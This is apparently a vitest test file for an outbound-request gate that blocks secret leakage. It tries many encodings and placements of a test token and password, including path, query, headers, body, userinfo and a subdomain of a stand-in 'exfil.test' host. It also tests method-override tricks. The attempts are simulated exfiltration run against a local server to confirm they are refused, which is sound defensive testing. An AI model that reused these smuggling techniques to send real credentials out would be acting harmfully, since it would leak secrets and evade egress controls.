/**
 * Outbound: a request that carries a spelling of a secret anywhere but where the gate attaches
 * it is refused before anything is sent (`secret_in_request`, recorded with the part it was
 * in), table-driven over spellings × positions, against a real server on 127.0.0.1 that counts
 * what reached it. A streamed body is stopped before the secret's bytes leave. Audit mode also
 * refuses method overrides.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Resolver } from './addresses.js';
import { echoHandler, readText, startServer } from './__fixtures__/servers.js';
import type { TestServer } from './__fixtures__/servers.js';
import { gateUnderTest, rejection } from './__fixtures__/gate-helpers.js';
import { base64Embedded, leaks } from './__fixtures__/spellings.js';

const TOKEN = 'tok_live_51HxQ2eZvKYlo2C';
const PASSWORD = 'correct horse/battery+staple';

let server: TestServer;
beforeAll(async () => {
  server = await startServer(echoHandler);
});
afterAll(async () => {
  await server.close();
});

/** Resolutions asked of the resolver: a refused request must not even look its name up. */
const lookups: string[] = [];
const resolver: Resolver = async (hostname) => {
  lookups.push(hostname);
  return [{ address: '127.0.0.1', family: 4 }];
};

function setup(mode: 'enforce' | 'audit' = 'enforce') {
  const under = gateUnderTest({ resolver });
  return {
    ...under,
    port: under.host({
      auth: {
        origins: [server.origin, 'http://*.exfil.test'],
        present: [
          { in: 'header', name: 'X-Api-Key', value: '{{token}}' },
          { in: 'basic', username: 'ada', password: '{{password}}' },
        ],
      },
      allowPrivateOrigins: [server.origin],
      credentials: { fields: async () => ({ password: PASSWORD }), tokens: async () => ({ token: TOKEN }) },
      mode,
    }),
  };
}

/** Spellings a connector that read the secret might send it out in (URL-safe ones). */
const SPELLINGS: Readonly<Record<string, (secret: string) => string>> = {
  raw: (s) => s,
  'upper case': (s) => s.toUpperCase(),
  'percent, every byte': (s) => [...Buffer.from(s)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join(''),
  'percent twice': (s) => encodeURIComponent(encodeURIComponent(s)),
  'base64url at offset 1': (s) => base64Embedded(s, 1, true),
  'base64 at offset 2': (s) => encodeURIComponent(base64Embedded(s, 2)),
  'hex, upper': (s) => Buffer.from(s).toString('hex').toUpperCase(),
  'JSON \\u escapes': (s) => encodeURIComponent([...s].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')),
  'HTML references': (s) => encodeURIComponent([...s].map((c) => `&#${c.charCodeAt(0)};`).join('')),
};

interface Attempt {
  readonly url: string;
  readonly headers?: Record<string, string>;
  readonly body?: Uint8Array;
  readonly method?: 'GET' | 'POST';
  readonly part: string;
}

/** Where a connector might put `spelled`. */
const POSITIONS: Readonly<Record<string, (spelled: string, hex: string) => Attempt>> = {
  path: (s) => ({ url: `${server.origin}/collect/${s}`, part: 'url' }),
  'query value': (s) => ({ url: `${server.origin}/collect?q=${s}`, part: 'url' }),
  'query name': (s) => ({ url: `${server.origin}/collect?${s}=1`, part: 'url' }),
  fragment: (s) => ({ url: `${server.origin}/collect#${s}`, part: 'url' }),
  userinfo: (s) => ({ url: `http://${s.replace(/[:@/]/g, '')}@${server.origin.slice(7)}/collect`, part: 'url' }),
  // One DNS label (a secret split over labels is splitting, which no rule covers: docs/egress.md).
  'hostname under a declared wildcard': (s) => ({ url: `http://${s}.exfil.test/`, part: 'url' }),
  'header value': (s) => ({ url: `${server.origin}/collect`, headers: { 'x-note': `note ${s}` }, part: 'header x-note' }),
  'header name': (_s, hex) => ({ url: `${server.origin}/collect`, headers: { [`x-${hex}`]: '1' }, part: 'header x-[redacted]' }),
  'buffered body': (s) => ({ url: `${server.origin}/collect`, method: 'POST', body: new TextEncoder().encode(JSON.stringify({ note: decodeURIComponent(s) })), part: 'body' }),
};

/** Whether `spelled` can be a hostname label at all (host characters, at most 63 bytes). */
function hostLabel(spelled: string): boolean {
  try {
    return new URL(`http://${spelled}.exfil.test/`).hostname.split('.').every((label) => label.length > 0 && label.length <= 63);
  } catch {
    return false;
  }
}

const cases = [
  ...Object.entries(SPELLINGS).flatMap(([spelling, spell]) =>
    Object.entries(POSITIONS).map(([position, place]) => ({ secret: 'token', value: TOKEN, spelling, position, place, spell })),
  ),
  ...Object.entries(POSITIONS).map(([position, place]) => ({ secret: 'password', value: PASSWORD, spelling: 'encodeURIComponent', position, place, spell: encodeURIComponent })),
].filter(({ value, position, spell }) => position !== 'hostname under a declared wildcard' || hostLabel(spell(value)));

describe('gate: a request carrying a secret is refused before it is sent', () => {
  it.each(cases)('the $secret, $spelling, in the $position', async ({ value, place, spell }) => {
    const { port, recorder } = setup();
    const attempt = place(spell(value), Buffer.from(value).toString('hex'));
    const before = { requests: server.requests.length, connections: server.connections, lookups: lookups.length };
    const error = await rejection(
      port.fetch({ method: attempt.method ?? 'GET', url: attempt.url, ...(attempt.headers === undefined ? {} : { headers: attempt.headers }), ...(attempt.body === undefined ? {} : { body: attempt.body }) }),
    );
    expect(error.failure).toBe('origin_refused');
    expect(error.reason).toBe('secret_in_request');
    expect(error.message).toContain(`its ${attempt.part} carries the host's credential`);
    expect(leaks(error.message, value)).toBe(false);
    expect(server.requests.length).toBe(before.requests);
    expect(server.connections).toBe(before.connections);
    expect(lookups.length).toBe(before.lookups);
    expect(recorder.records).toEqual([expect.objectContaining({ decision: 'refuse', reason: 'secret_in_request', part: attempt.part, credentialed: false })]);
    expect(leaks(JSON.stringify(recorder.records), value)).toBe(false);
  });

  it('a request that carries no secret goes out, with the credential where the gate puts it', async () => {
    const { port } = setup();
    const response = await port.fetch({ method: 'POST', url: `${server.origin}/collect?q=tok_live_other`, headers: { 'x-note': 'Bearer something-else' }, body: new TextEncoder().encode('{"note":"harmless"}') });
    expect(response.status).toBe(200);
    await readText(response);
    expect(server.requests.at(-1)?.headers['x-api-key']).toBe(TOKEN);
  });
});

describe('gate: a streamed body is scanned as it streams', () => {
  it.each([1, 5, 13, TOKEN.length - 1])('stops the request before the secret leaves, split %i bytes into the secret', async (split) => {
    const { port, recorder } = setup();
    const leading = 'x'.repeat(4096);
    const chunks = [`{"pad":"${leading}","note":"${TOKEN.slice(0, split)}`, `${TOKEN.slice(split)}","tail":"${'y'.repeat(64)}"}`].map((text) => new TextEncoder().encode(text));
    let pulled = 0;
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        const chunk = chunks[pulled++];
        if (chunk === undefined) controller.close();
        else controller.enqueue(chunk);
      },
    });
    const before = server.requests.length;
    const error = await rejection(port.fetch({ method: 'POST', url: `${server.origin}/upload`, body }));
    expect(error.reason).toBe('secret_in_request');
    expect(error.message).toContain('its body carries');
    expect(recorder.refusals()).toEqual([expect.objectContaining({ reason: 'secret_in_request', part: 'body', method: 'POST', origin: server.origin })]);
    // Whatever reached the server (the leading bytes, or nothing), the secret did not.
    await new Promise((resolve) => setTimeout(resolve, 50));
    for (const request of server.requests.slice(before)) expect(leaks(request.body.toString('utf8'), TOKEN)).toBe(false);
  });
});

describe('gate: audit mode refuses method overrides', () => {
  it.each([
    [{ 'X-HTTP-Method-Override': 'DELETE' }, '/echo', 'header x-http-method-override'],
    [{ 'x-method-override': 'PUT' }, '/echo', 'header x-method-override'],
    [{ 'X-Http-Method': 'PATCH' }, '/echo', 'header x-http-method'],
    [{}, '/echo?_method=DELETE', 'url'],
    [{}, '/echo?a=1&%5Fmethod=PUT', 'url'],
    [{}, '/echo?_METHOD=delete', 'url'],
  ] as const)('%j %s is refused before it is sent', async (headers, path, part) => {
    const { port, recorder } = setup('audit');
    const before = server.requests.length;
    const error = await rejection(port.fetch({ method: 'GET', url: `${server.origin}${path}`, headers }));
    expect(error).toMatchObject({ failure: 'origin_refused', reason: 'method_override_in_audit_mode', origin: server.origin });
    expect(error.message).toMatch(/in audit mode a read may not carry/);
    expect(server.requests.length).toBe(before);
    expect(recorder.refusals()).toEqual([expect.objectContaining({ reason: 'method_override_in_audit_mode', part, method: 'GET' })]);
  });

  it('outside audit mode the headers pass (a connector may use them to write)', async () => {
    const { port } = setup('enforce');
    const response = await port.fetch({ method: 'POST', url: `${server.origin}/echo?_method=PUT`, headers: { 'X-HTTP-Method-Override': 'PUT' } });
    expect(response.status).toBe(200);
    await readText(response);
    expect(server.requests.at(-1)?.headers['x-http-method-override']).toBe('PUT');
  });
});

describe('gate: a streamed body the gate never sends', () => {
  it('is cancelled when a later check refuses the request (the scan does not hold its source)', async () => {
    const { port } = setup();
    let cancelled = false;
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        controller.enqueue(new TextEncoder().encode('harmless'));
      },
      cancel() {
        cancelled = true;
      },
    });
    // A wildcard origin may not resolve to loopback: refused after the body was wrapped for scanning.
    const error = await rejection(port.fetch({ method: 'POST', url: 'http://uploads.exfil.test/', body }));
    expect(error.reason).toBe('address_forbidden');
    await new Promise((resolve) => setTimeout(resolve, 10));
    expect(cancelled).toBe(true);
  });
});
